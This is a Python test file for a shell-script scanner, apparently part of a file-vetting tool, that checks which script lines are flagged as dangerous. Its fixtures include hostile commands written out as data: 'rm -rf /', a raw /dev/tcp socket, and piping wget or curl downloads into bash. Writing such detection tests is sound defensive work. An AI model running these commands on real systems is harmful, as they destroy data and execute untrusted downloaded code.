"""The reader of scripts: which lines it tells."""

from __future__ import annotations

import pytest

from openvet.core.coverage import Coverage
from openvet.core.limits import Budget, Limits
from openvet.formats import shell as reader
from openvet.formats._format import Facts, Head, Likeness
from openvet.io.source import BytesSource


def read(data: bytes) -> Facts:
    facts = Facts("a.sh", "a.sh", Budget(Limits()))
    reader.read(BytesSource(data), facts)
    return facts


@pytest.mark.parametrize(
    ("line", "rules"),
    [
        ("exec 5<>/dev/tcp/a/1", ["shell/dangerous-command"]),
        ("rm -rf /", ["shell/dangerous-command"]),
        ("rm -r -f ~", ["shell/dangerous-command"]),
        ("rm -rf /tmp/x", []),
        ("rm -rf $HOME/.cache/x", []),
        ("wget -qO- https://example.org | sudo bash", ["shell/runs-download"]),
        ("bash <(curl -s https://example.org)", ["shell/runs-download"]),
        ("curl https://example.org | jq . | shuf", []),
        ("# rm -rf /", []),
        ("sync -e", []),
    ],
)
def test_lines(line: str, rules: list[str]) -> None:
    facts = read(f"#!/bin/sh\n{line}\n".encode())
    assert [each.rule for each in facts.anomalies] == rules
    assert (facts.coverage, facts.metadata["interpreter"]) == (Coverage.INERT, "/bin/sh")


@pytest.mark.parametrize(
    ("data", "name", "likeness"),
    [
        (b"#!/bin/sh\n", "a", Likeness.WEAK),
        (b"echo\n", "a.sh", Likeness.WEAK),
        (b"#!/usr/bin/env python\n", "a.py", Likeness.NO),
        (b"#!/bin/sh\n\0\0", "a", Likeness.NO),
        (b"echo\n", "a.txt", Likeness.NO),
    ],
)
def test_what_looks_like_one(data: bytes, name: str, likeness: Likeness) -> None:
    assert reader.probe(Head(name, BytesSource(data))) is likeness
